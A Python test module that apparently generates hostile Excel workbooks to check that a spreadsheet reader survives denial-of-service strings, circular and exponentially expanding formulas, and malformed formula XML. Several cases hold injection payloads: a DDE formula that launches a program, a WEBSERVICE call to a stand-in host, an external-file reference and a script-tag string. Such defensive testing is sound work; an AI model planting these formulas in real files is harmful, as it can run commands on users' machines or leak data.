"""Texts and formulas that want to keep a pattern or a parser busy for ever."""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable
from typing import Any

from tests.workbook.build import Built, Variation, jawaban, lke_zi
from tests.workbook.form import EDITION, INSTRUMENT
from tests.workbook.hostile.registry import CASES, READ, Case, hostile, replacing
from tests.workbook.samples import complete

LONG = 32_000
#: Texts that stress what patterns look for: spaces, digits, dots, brackets, slashes, letters.
STRESS = {
    "spaces": " " * LONG + "x",
    "no-break spaces": "\u00a0" * LONG,
    "digits": "1" * LONG,
    "digits and dots": "1.111" * (LONG // 5),
    "dots": "." * LONG,
    "brackets": "(" * LONG,
    "slashes": "a/" * (LONG // 2),
    "options": "a/b/c/d/e" * (LONG // 9),
    "commas": "a," * (LONG // 2),
    "letters": "a" * LONG,
    "words": "jawaban " * (LONG // 8),
    "different words": " ".join(f"kata{number}" for number in range(4_000)),
    "roman numbers": "iiii. " * (LONG // 6),
    "hashes": "#" * LONG,
    "an error that is none": "#" + "A" * LONG + "!",
    "percents": "%" * LONG,
    "letters that grow when folded": "ß" * LONG,
    "a dotted capital i": "İ" * LONG,
    "combining marks": "a" + "\u0301" * LONG,
    "right to left": "\u202e" * LONG,
    "line breaks": "\n" * LONG,
    "a nul in escape": "_x0000_" * (LONG // 7),
    "quotes": "'\"" * (LONG // 2),
    "a formula": "=" * LONG,
    "code": "<script>alert(1)</script>" * (LONG // 25),
    "format fields": "{0.__class__}%s%(x)s" * (LONG // 20),
}


def _everywhere(text: str) -> Callable[[], bytes]:
    """The text in the header, in the tree, in the choices, in the ids and in the answers of some rows."""

    def make() -> bytes:
        built = jawaban(complete(), Variation(summaries=False))
        for ref in ("R1", "S1", "T1"):
            literal(built, ref, text)
        for row in (8, 60, 126, 158, 200):
            for letter in "ABGHIJKLM":
                literal(built, f"{letter}{row}", text)
        return built.data(results=False)

    return make


def literal(built: Built, ref: str, text: str) -> None:
    cell: Any = built.sheet[ref]
    cell.value, cell.data_type = text, "s"


for _name, _text in STRESS.items():
    CASES.append(Case(f"{_name} everywhere", _everywhere(_text), frozenset((READ,))))


def _formulas(make: Callable[[Built], None]) -> Callable[[], bytes]:
    def build() -> bytes:
        built = lke_zi(complete(), Variation(summaries=False))
        make(built)
        return built.data(results=False)

    return build


def _each_answer(formula: Callable[[int], str]) -> Callable[[Built], None]:
    """A formula without stored result in every answer cell."""

    def make(built: Built) -> None:
        for key in EDITION.fields:
            built.put(key, formula(built.rows[key]))

    return make


def _each_point(formula: Callable[[int], str]) -> Callable[[Built], None]:
    def make(built: Built) -> None:
        for row in built.rows.values():
            built.sheet[f"L{row}"] = formula(row)

    return make


def _levels(built: Built) -> None:
    """Seven columns of formulas, each of which sums the whole next column: 195 to the power of seven."""
    columns = ["K", "AA", "AB", "AC", "AD", "AE", "AF", "AG"]
    for column, following in itertools.pairwise(columns):
        for row in range(6, 201):
            built.sheet[f"{column}{row}"] = f"=SUM({following}6:{following}200)"
    for row in range(6, 201):
        built.sheet[f"AG{row}"] = 1


FORMULAS: dict[str, Callable[[Built], None]] = {
    "refer to themselves": _each_answer(lambda row: f"=K{row}"),
    "refer to each other": _each_answer(lambda row: f"=K{row % 204 + 1}"),
    "sum the next column seven times": _levels,
    "sum each other": _each_answer(lambda _: "=SUM(K2:K202)"),
    "sum each other many times": _each_answer(lambda _: "=" + "+".join(["SUM(K2:K202)"] * 30)),
    "double each other": _each_answer(lambda row: f"=K{row - 1}+K{row - 1}+K{row - 1}"),
    "have a hundred and fifty brackets": _each_answer(lambda row: f"={'(' * 150}K{row + 1}{')' * 150}"),
    "have eight thousand brackets": _each_answer(lambda _: f"={'(' * 4000}1{')' * 4000}"),
    "have nested sums": _each_answer(lambda row: f"={'SUM(' * 60}K{row + 1}{')' * 60}"),
    "have a chain of signs": _each_answer(lambda row: f"={'-+' * 190}K{row + 1}"),
    "have a chain of powers": _each_answer(lambda _: "=9999999*9999999*" * 20 + "9999999"),
    "have a number of four hundred digits": _each_answer(lambda _: "=" + "9" * 398),
    "divide by zero": _each_answer(lambda _: "=1/0"),
    "are only an equals sign and spaces": _each_answer(lambda _: "=  "),
    "call the web": _each_answer(lambda _: '=WEBSERVICE("http://jahat.example/")'),
    "name another file": _each_answer(lambda _: "='[rahasia.xlsx]Gaji'!A1"),
    "run a program": _each_answer(lambda _: "=cmd|'/C calc'!A0"),
    "refer to themselves in the points": _each_point(lambda row: f"=SUM(L{row},L{row})"),
    "refer to the whole column in the points": _each_point(lambda _: "=SUM(L1:L204)*SUM(A1:XFD1048576)"),
    "sum the column a thousand times in the points": _each_point(lambda _: f"=SUM({'L1:L500,' * 900}L1)"),
    "are eight thousand references in the points": _each_point(lambda row: "=" + "+".join(["L5"] * 2500)),
    "are eight thousand brackets in the points": _each_point(lambda _: f"={'(' * 4000}L5{')' * 4000}"),
    "are long words in the points": _each_point(lambda _: "=" + "A" * 8000),
    "name a sheet that never ends in the points": _each_point(lambda _: "='" + "a b" * 2600 + "!L5"),
}
for _name, _make in FORMULAS.items():
    CASES.append(Case(f"formulas that {_name}", _formulas(_make), frozenset((READ,))))


@hostile(READ)
def an_array_formula_that_is_broken() -> bytes:
    return replacing(b"<f>", b'<f t="array" ref="(semua)">')


@hostile(READ)
def a_shared_formula_without_a_first() -> bytes:
    return replacing(b"<f>", b'<f t="shared" si="7">')


@hostile(READ)
def a_table_formula_with_unknown_attributes() -> bytes:
    return replacing(b"<f>", b'<f t="dataTable" jahat="1">')


@hostile(READ)
def a_summary_sheet_full_of_references() -> bytes:
    built = jawaban(complete(), Variation(tpi=2))
    sheet = built.book.create_sheet("Ringkasan")
    for row in range(1, 60):
        for column in range(1, 60):
            sheet.cell(row, column).value = "=" + "+".join([f"Jawaban!O{row}"] * 100)
    return built.data(results=False)


@hostile(READ)
def a_summary_sheet_of_words_that_nearly_name_a_sheet() -> bytes:
    built = jawaban(complete(), Variation(tpi=2))
    sheet, draw = built.book.create_sheet("Ringkasan"), random.Random(1)
    sheet["A1"], sheet["B1"] = "NILAI EVALUASI ZONA INTEGRITAS", 50
    for row in range(2, 60):
        formula = "=" + "".join(draw.choices(("a ", "b ", "a. "), k=4_000))
        for column in range(1, 60):
            sheet.cell(row, column).value = formula
    return built.data(results=False)


@hostile(READ)
def a_summary_sheet_of_stress() -> bytes:
    built = jawaban(complete(), Variation(tpi=2))
    sheet = built.book.create_sheet("Ringkasan")
    for row, text in enumerate(STRESS.values(), 1):
        cell: Any = sheet.cell(row, 1)
        cell.value, cell.data_type = f"nilai evaluasi {text}"[:LONG], "s"
        sheet.cell(row, 2).value = "=" + "'" + "a " * 3000
    return built.data(results=False)


assert len(INSTRUMENT.fields) == len(EDITION.fields)
